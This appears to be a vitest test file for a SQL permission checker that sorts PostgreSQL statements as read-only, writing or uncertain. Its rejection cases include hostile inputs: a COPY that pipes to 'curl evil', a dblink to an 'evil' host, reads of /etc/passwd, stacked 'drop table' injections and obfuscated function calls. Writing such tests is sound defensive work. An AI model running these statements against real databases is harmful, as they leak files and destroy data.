import { beforeAll, describe, expect, it } from "vitest";
import { truthOf } from "../../../test/judge.ts";
import { sqlGrammar } from "./grammar.ts";

beforeAll(() => sqlGrammar.load());

const restrict = (condition: string, sql: string): string =>
  truthOf("restrict", `sql: ${condition}`, { payload: { sql } });

const permit = (condition: string, sql: string): string =>
  truthOf("permit", `sql: ${condition}`, { payload: { sql } });

describe("writes: false in an allow rule", () => {
  it.each([
    "select 1",
    "SELECT/**/name FROM users -- all of them",
    "table users",
    "values (1), (2)",
    "select a.x, count(*) over (partition by b) from a join b using (id) where c in (select d from e)",
    "with recursive t(n) as (select 1 union all select n + 1 from t where n < 9) select sum(n) from t",
    "select U&\"\\006eow\"(), extract(year from now()), 'x' || $1, current_user, pg_catalog.lower('A')",
    "select * from generate_series(1, 3) g, lateral (select g) x, t tablesample system (10)",
    "explain select * from users",
    "explain (verbose) delete from users",
    "show search_path",
    "select '; drop table users; --', $$delete from users$$",
  ])("holds for %j", (sql) => {
    expect(permit("{ writes: false }", sql)).toBe("true");
  });

  it.each([
    "insert into users values (1)",
    "update users set a = 1 where id = 2",
    "merge into a using b on a.id = b.id when matched then delete",
    "with x as (delete from users returning *) select * from x",
    "select * from (with x as (update users set a = 1 returning *) select * from x) y",
    "select 1; drop table users",
    "select * into copy_of_users from users",
    "select 1 into t union select 2",
    "select * from users for update",
    "select * from (select * from users for share) x",
    "explain analyze delete from users",
    "explain (costs off, analyze) insert into users values (1)",
    "create table t as select 1",
    "copy users to program 'curl evil'",
    "copy (select 1) to stdout",
    "do $$ begin delete from users; end $$",
    "call refresh()",
    "prepare p as delete from users",
    "execute p",
    "set role postgres",
    "reset all",
    "begin",
    "listen x",
    "lock table users",
    "select nextval('s')",
    "select pg_catalog.setval('s', 1)",
    "select 1 where exists (select lo_export(1, '/tmp/x'))",
    "select pg_read_file('/etc/passwd')",
    "select * from dblink('host=evil', 'select 1') as t(a int)",
    "select query_to_xml('delete from users', true, true, '')",
    "select case when true then pg_terminate_backend(1) end",
    "select x from users order by set_config('a', 'b', false)",
    "select \"nextval\"('s')",
    "select ('/etc/passwd').pg_read_file",
    "select (array['/etc/passwd'])[1].pg_read_file",
    'select (t.path)."pg_read_file" from t',
    "select (select 's'::regclass).nextval",
    "select $1.pg_terminate_backend",
    "select ('/etc/passwd').pg_read_file",
    "select (array['/etc/passwd'])[1].pg_read_file",
    'select (t.path)."pg_read_file" from t',
    "select (select 's'::regclass).nextval",
    "select $1.pg_terminate_backend",
  ])("does not hold for %j", (sql) => {
    expect(permit("{ writes: false }", sql)).toBe("false");
  });

  it.each([
    "select my_function(1)",
    "select other.lower('A')",
    "select ('A').my_function",
    "select ('A').my_function",
    "select 'x' operator(public.@@@) 'y'",
    "select * from users tablesample mine(1)",
    "selec 1",
    "",
    " -- nothing",
    "select 'open",
    "select 1\u0000; drop table users",
    "select 1 \\g",
    "select `a` from users",
    "select 1 /*! ; drop table users */",
    `select ${"(".repeat(3000)}1${")".repeat(3000)}`,
    `select '${"x".repeat(70_000)}'`,
  ])("is uncertain of %j", (sql) => {
    expect(permit("{ writes: false }", sql)).toBe("uncertain");
  });
});

describe("writes in a deny or approval rule", () => {
  it.each<[string, string, string, string]>([
    ["select 1", "false", "true", "false"],
    ["delete from users", "true", "false", "true"],
    ["select my_function()", "uncertain", "uncertain", "true"],
    ["selec 1", "uncertain", "uncertain", "true"],
    ["selec 1; delete from users", "uncertain", "uncertain", "true"],
  ])("of %j: true is %s, false is %s, possible is %s", (sql, yes, no, possible) => {
    expect(restrict("{ writes: true }", sql)).toBe(yes);
    expect(restrict("{ writes: false }", sql)).toBe(no);
    expect(restrict("{ writes: possible }", sql)).toBe(possible);
  });
});
